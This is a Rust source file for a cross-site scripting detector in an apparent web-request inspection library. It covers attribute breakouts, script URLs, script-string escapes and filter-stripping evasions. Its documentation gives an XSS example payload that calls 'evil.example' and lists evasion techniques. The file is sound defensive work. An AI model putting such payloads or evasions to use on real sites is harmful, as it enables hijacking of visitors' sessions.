//! Cross-site scripting.
//!
//! # What it detects
//! Values that would run as script in a browser wherever a page puts them: between tags, in an attribute (quoted or
//! not), in a URL, in a style, in a string of a script, or in a client-side template. Markup that cannot run script, as
//! rich-text editors send it, is not reported.
//!
//! # Why it matters
//! Script in a page acts with the rights of its visitor: it reads sessions, changes what is shown and sends requests.
//!
//! # Example
//! `"><img src=x onerror=fetch('//evil.example')>`: the quote and `>` leave an attribute, and the image that cannot load runs
//! its error handler.
//!
//! # Known false positives
//! Posts that show working script outside code fences and inline code; administration forms that take tag-manager or
//! advertising snippets.
//!
//! # Evasions covered
//! Case, slashes for spaces, missing quotes, entities in attributes, tabs and line ends in schemes, nested and unclosed
//! tags, CDATA and conditional comments, mutation through attributes, split and escaped names in script, tagged
//! templates, scripts of brackets only, padding before and after.
//!
//! # References
//! WHATWG HTML section 13.2; ECMA-262 section 12; OWASP XSS Filter Evasion Cheat Sheet; CWE-79.

use std::{cell::OnceCell, ops::Range};

use picket_request::Place;

use crate::{
    Class, Decoder, Detector, Fact, FactKind, Gate, Input, Scratch, Signal, Sink,
    bytes::{contains_ignore_case, find_ignore_case},
    html::{
        shown::CodeSpans,
        sinks::{FRAME, Hit, PLAIN_FRAME, SHEET, STYLE_IMPORTS, walk},
        tokenizer::Start,
        url::{Follow, follow},
    },
    script::{Effect, Escape, effect, effect_of_code, escape},
};

pub(super) static DETECTOR: Detector =
    Detector { signal: Signal::Xss, name: "xss", version: 1, gate: Gate::With(&[Class::Angle, Class::Paren, Class::Backtick, Class::Equals], gate), run };

static LEAVES_ATTRIBUTE: Fact = Fact::new("closes an attribute and adds another", FactKind::Breakout, 60);
static IN_TAG: Fact = Fact::new("would be an attribute that runs inside a tag", FactKind::Structure, 100);
static LEAVES_SCRIPT: Fact = Fact::new("ends a script that began before the value", FactKind::Breakout, 100);
static ONLY_SCRIPT: Fact = Fact::new("nothing but the start of a script element", FactKind::Structure, 100);
static LEAVES_STRING: Fact = Fact::new("closes a script's string and goes on with code", FactKind::Breakout, 105);
static WHOLE_SCRIPT: Fact = Fact::new("is a script with an effect as a whole", FactKind::Structure, 105);
static BEGINS_AS_SCRIPT: Fact = Fact::new("begins as a script with an effect", FactKind::Structure, 60);
static REBUILT: Fact = Fact::new("runs when a filter has taken inner marks out", FactKind::Structure, 100);
static SCRIPT_URL: Fact = Fact::new("is a script URL", FactKind::Effect, 105);
static SCRIPT_URL_INSIDE: Fact = Fact::new("a script URL where a link or a style would follow it", FactKind::Effect, 100);
static SCRIPT_URL_SOMEWHERE: Fact = Fact::new("a script URL with an effect", FactKind::Structure, 100);
static DOCUMENT_URL: Fact = Fact::new("is a URL that carries a document", FactKind::Effect, 100);
static IDLE_URL: Fact = Fact::new("a script URL without effect", FactKind::Structure, 30);

static SHOWN: Fact = Fact::new("markup that would run", FactKind::Structure, 100);

static SHOWN_AS_CODE: Fact = Fact::new("stands in a code block", FactKind::Doubt, 70);
static ENTITIES_IN_MARKUP: Fact = Fact::new("was written with entities inside real markup", FactKind::Doubt, 70);
static PROSE: Fact = Fact::new("stands in prose", FactKind::Doubt, 50);
static LONG_CODE: Fact = Fact::new("stands in many lines of code", FactKind::Doubt, 60);

fn gate(input: &Input<'_>) -> bool {
    let classes = input.classes;
    classes.any(&[Class::Angle, Class::Paren, Class::Backtick])
        || classes.has(Class::Equals) && classes.any(&[Class::SingleQuote, Class::DoubleQuote, Class::Brace])
}

fn run(input: &Input<'_>, _: &mut Scratch, sink: &mut Sink<'_>) {
    let bytes = input.bytes;
    let surroundings = Surroundings { input, code: OnceCell::new() };
    if input.classes.has(Class::Angle) {
        walk(bytes, 0, Start::Data, &mut |hit| surroundings.report(sink, &hit, &[]));
        lone_script_tag(input, sink);
    }
    if has_attribute(bytes) {
        for quote in [b'"', b'\''] {
            let mut at = 0;
            while let Some(found) = memchr::memchr(quote, bytes.get(at..).unwrap_or_default()) {
                at = walk(bytes, at + found + 1, Start::Tag, &mut |hit| {
                    if in_attribute(bytes, &hit) {
                        surroundings.report(sink, &hit, &[&LEAVES_ATTRIBUTE]);
                    }
                });
            }
        }
        let first_tag = memchr::memchr(b'<', bytes).unwrap_or(bytes.len());
        for start in [Start::UnquotedValue, Start::Tag] {
            walk(bytes, 0, start, &mut |hit| {
                if hit.span.end <= first_tag && in_attribute(bytes, &hit) {
                    surroundings.soft(sink, hit.span, &[&IN_TAG]);
                }
            });
        }
    }
    urls(&surroundings, sink);
    if input.classes.has(Class::Angle) && bytes.len() < STRIPPED {
        stripped(&surroundings, sink);
    }
    if input.classes.any(&[Class::Paren, Class::Backtick, Class::Equals, Class::Bracket, Class::Dot]) {
        match escape(bytes) {
            Some(Escape::String(span)) => surroundings.soft(sink, span, &[&LEAVES_STRING]),
            Some(_) if begins_with_tag(bytes) || is_form_text(bytes) => {}
            Some(Escape::Whole(span)) => surroundings.soft(sink, span, &[&WHOLE_SCRIPT]),
            Some(Escape::Begins(span)) => surroundings.soft(sink, span, &[&BEGINS_AS_SCRIPT]),
            None => {}
        }
    }
}

/// A script's end tag as the first of a value ends what the page began, and a script's start tag as all of it makes the
/// rest of the page a script. Either is all that the first half of an injection has.
fn lone_script_tag(input: &Input<'_>, sink: &mut Sink<'_>) {
    const LONGEST: usize = 256;
    if input.bytes.len() > LONGEST {
        return;
    }
    let Some(at) = memchr::memchr(b'<', input.bytes) else { return };
    let before = input.bytes.get(..at).unwrap_or_default();
    if !(before.trim_ascii().is_empty() || input.place == Place::Path && before.ends_with(b"/")) {
        return;
    }
    let rest = input.bytes.get(at + 1..).unwrap_or_default();
    let (end, name) = rest.strip_prefix(b"/").map_or((false, rest), |name| (true, name));
    let is_script = name.get(..6).is_some_and(|head| head.eq_ignore_ascii_case(b"script"))
        && name.get(6).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'/' | b'>'));
    if !is_script {
        return;
    }
    let close = memchr::memchr(b'>', rest).map_or(rest.len(), |at| at + 1);
    if end {
        sink.report(at..at + 1 + close, &[&LEAVES_SCRIPT]);
    } else if rest.get(close..).unwrap_or_default().trim_ascii().is_empty() {
        sink.report(at..at + 1 + close, &[&ONLY_SCRIPT]);
    }
}

/// Values up to this length are also read as a filter would leave them.
const STRIPPED: usize = 2048;

/// What a filter leaves that takes tags or CDATA marks out: `o<x>nfocus=`, `<![CDATA[<]]>script>`.
fn stripped(surroundings: &Surroundings<'_>, sink: &mut Sink<'_>) {
    let bytes = surroundings.input.bytes;
    let cdata = memchr::memmem::find(bytes, b"<![CDATA[<").is_some();
    let split = memchr::memchr_iter(b'<', bytes).any(|at| {
        let tag = bytes.get(at..bytes.len().min(at + 12)).unwrap_or_default();
        let end = memchr::memchr(b'>', tag).unwrap_or(0);
        let letter = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_alphabetic);
        end > 0 && at > 0 && letter(at - 1) && (letter(at + end + 1) || bytes.get(at + end + 1) == Some(&b'('))
    });
    if !cdata && !split {
        return;
    }
    let mut text = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let rest = bytes.get(at..).unwrap_or_default();
        if cdata && rest.starts_with(b"<![CDATA[") {
            at += 9;
        } else if cdata && rest.starts_with(b"]]>") {
            at += 3;
        } else if let Some(end) = memchr::memchr(b'>', rest.get(..rest.len().min(12)).unwrap_or_default())
            && !cdata
            && byte == b'<'
        {
            at += end + 1;
        } else {
            text.push(byte);
            at += 1;
        }
    }
    let mut runs = false;
    walk(&text, 0, Start::Data, &mut |hit| runs |= matches!(hit.fact.kind, FactKind::Effect));
    for quote in [b'"', b'\''] {
        if let Some(found) = memchr::memchr(quote, &text) {
            walk(&text, found + 1, Start::Tag, &mut |hit| runs |= in_attribute(&text, &hit));
        }
    }
    if runs {
        surroundings.soft(sink, 0..bytes.len(), &[&REBUILT]);
    }
}

/// A value and what is known of the text around a hit.
struct Surroundings<'a> {
    input: &'a Input<'a>,
    code: OnceCell<CodeSpans>,
}

impl Surroundings<'_> {
    fn is_shown(&self, at: usize) -> bool {
        let shape = self.input.shape();
        let code = self.code.get_or_init(|| CodeSpans::of(self.input.bytes, shape.is_prose() || shape.lines > 3));
        code.shows(self.input.bytes, at)
    }

    /// Reports markup that runs. Where it is only shown, it counts as structure, which doubts may lower.
    fn report(&self, sink: &mut Sink<'_>, hit: &Hit, more: &[&'static Fact]) {
        let entities = self.input.chain.contains(Decoder::HtmlEntity);
        if self.is_shown(hit.span.start) {
            sink.report(hit.span.clone(), &[&SHOWN, &SHOWN_AS_CODE]);
        } else if entities && (hit.shown || has_rich_text(self.input.bytes)) {
            sink.report(hit.span.clone(), &[&SHOWN, &ENTITIES_IN_MARKUP]);
        } else {
            // Whole pages load sheets and show frames.
            let loads = [&PLAIN_FRAME, &SHEET, &STYLE_IMPORTS].iter().any(|fact| std::ptr::eq(*fact, hit.fact));
            let main = if loads && is_page(self.input.bytes) { &FRAME } else { hit.fact };
            let mut facts = [main; 5];
            let mut count = 1;
            for &fact in more.iter().take(2) {
                facts[count] = fact;
                count += 1;
            }
            if !matches!(hit.fact.kind, FactKind::Effect) && self.input.shape().is_prose() {
                facts[count] = &PROSE;
                count += 1;
            }
            sink.report(hit.span.clone(), facts.get(..count).unwrap_or_default());
        }
    }

    /// Reports what parses without leaving a context, with all that speaks against it.
    fn soft(&self, sink: &mut Sink<'_>, span: Range<usize>, found: &[&'static Fact]) {
        let shape = self.input.shape();
        let mut facts = [&PROSE; 6];
        let mut count = 0;
        let mut add = |fact: &'static Fact| {
            if let Some(slot) = facts.get_mut(count) {
                *slot = fact;
                count += 1;
            }
        };
        for &fact in found {
            add(fact);
        }
        if self.is_shown(span.start) {
            add(&SHOWN_AS_CODE);
        }
        // What reads as code from end to end is no prose, however many short words it has.
        if shape.is_prose() && !found.contains(&&WHOLE_SCRIPT) {
            add(&PROSE);
        }
        if shape.lines >= 4 {
            add(&LONG_CODE);
        }
        sink.report(span, facts.get(..count).unwrap_or_default());
    }
}

/// Whether a text has `+` where words are set apart, as a form writes spaces, and has no effect when they are spaces.
fn is_form_text(bytes: &[u8]) -> bool {
    memchr::memchr_iter(b'+', bytes).take(2).count() == 2
        && memchr::memchr(b' ', bytes).is_none()
        && bytes.len() < STRIPPED
        && {
            let spaced: Vec<u8> = bytes.iter().map(|&b| if b == b'+' { b' ' } else { b }).collect();
            escape(&spaced).is_none()
        }
}

fn begins_with_tag(bytes: &[u8]) -> bool {
    matches!(bytes.trim_ascii_start(), [b'<', next, ..] if next.is_ascii_alphabetic() || matches!(next, b'!' | b'?'))
}

/// Whether the value is a page or a mail rather than a piece of markup.
fn is_page(bytes: &[u8]) -> bool {
    let head = bytes.get(..bytes.len().min(1024)).unwrap_or_default();
    [&b"<html"[..], b"<head", b"<!doctype", b"<table"].iter().any(|tag| contains_ignore_case(head, tag)) && bytes.len() > 200
}

/// Whether the text holds the closing tags that rich-text editors write.
fn has_rich_text(bytes: &[u8]) -> bool {
    [&b"</p>"[..], b"</li>", b"</code>", b"</pre>", b"<br", b"</td>", b"</h", b"</blockquote>"]
        .iter()
        .any(|tag| contains_ignore_case(bytes, tag))
}

/// Whether an attribute stands in the value that could run: an `on` name, a style, or a script URL behind a name.
fn has_attribute(bytes: &[u8]) -> bool {
    memchr::memchr_iter(b'=', bytes).any(|at| {
        let before = bytes.get(at.saturating_sub(48)..at).unwrap_or_default().trim_ascii_end();
        let start = before.iter().rposition(|b| !b.is_ascii_alphabetic()).map_or(0, |end| end + 1);
        let name = before.get(start..).unwrap_or_default();
        let on = name.len() > 3 && name[..2].eq_ignore_ascii_case(b"on");
        on || [&b"style"[..], b"href", b"src", b"action", b"formaction", b"srcdoc", b"data"]
            .iter()
            .any(|known| name.eq_ignore_ascii_case(known))
    })
}

/// Whether an attribute outside a tag has a value that does something, rather than words that look like one.
fn in_attribute(bytes: &[u8], hit: &Hit) -> bool {
    let value = bytes.get(hit.value.clone()).unwrap_or_default();
    matches!(hit.fact.kind, FactKind::Effect) && !value.is_empty() && {
        let scheme = match follow(value) {
            Follow::Script => true,
            Follow::Document => !contains_ignore_case(value.get(..value.len().min(16)).unwrap_or_default(), b"image/"),
            _ => false,
        };
        scheme || effect(value, 0).effect > Effect::None || memchr::memchr2(b'(', b'<', value).is_some()
    }
}

fn urls(surroundings: &Surroundings<'_>, sink: &mut Sink<'_>) {
    let bytes = surroundings.input.bytes;
    if memchr::memchr2(b':', b'&', bytes).is_none() {
        return;
    }
    match follow(bytes) {
        Follow::Script if is_code(bytes) => sink.report(0..bytes.len(), &[&SCRIPT_URL]),
        Follow::Document => sink.report(0..bytes.len(), &[&DOCUMENT_URL]),
        Follow::Idle => sink.report(0..bytes.len(), &[&IDLE_URL]),
        _ => {}
    }
    const SCHEMES: u32 = 64;
    let (mut at, mut read) = (1, 0);
    // Each search goes on behind the last find; what follows a scheme is read once, because finds do not overlap.
    while let Some(found) = find_ignore_case(bytes.get(at..).unwrap_or_default(), b"script:") {
        let end = at + found + 7;
        let rest = bytes.get(end..).unwrap_or_default();
        let start = scheme_start(bytes, at + found);
        let lead = bytes.get(..start).unwrap_or_default().trim_ascii_end();
        let word = bytes.get(start..end).unwrap_or_default();
        if follow(word) >= Follow::Idle && follow(bytes.get(start..).unwrap_or_default()) == Follow::Script {
            // A flood of schemes is read no further than this; links, which need no reading, are found anywhere.
            let window = bytes.get(..bytes.len().min(end + 256)).unwrap_or_default();
            let strong = if read < SCHEMES { effect(window, end).effect } else { Effect::None };
            read += 1;
            let inside = lead.ends_with(b"](") || lead.ends_with(b"](<") || lead.ends_with(b"url(") || lead.ends_with(b"]:");
            if inside {
                surroundings.report(sink, &Hit { fact: &SCRIPT_URL_INSIDE, span: start..end, value: 0..0, shown: false }, &[]);
            } else if strong > Effect::None && !rest.is_empty() {
                surroundings.soft(sink, start..end, &[&SCRIPT_URL_SOMEWHERE]);
            }
        }
        at = end;
    }
}

/// Whether what follows a script scheme is code, or hidden, rather than a title such as "JavaScript: an introduction".
fn is_code(url: &[u8]) -> bool {
    let colon = memchr::memchr(b':', url).map_or(0, |at| at + 1);
    let rest = url.get(colon..).unwrap_or_default();
    effect_of_code(rest, 0).effect > Effect::None || !(rest.contains(&b' ') || memchr::memmem::find(rest, b"%20").is_some())
        || memchr::memchr2(b'&', b'\\', rest).is_some()
}

/// Where the scheme that ends in `script:` begins.
fn scheme_start(bytes: &[u8], script: usize) -> usize {
    let before = bytes.get(script.saturating_sub(8)..script).unwrap_or_default();
    script - before.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count()
}
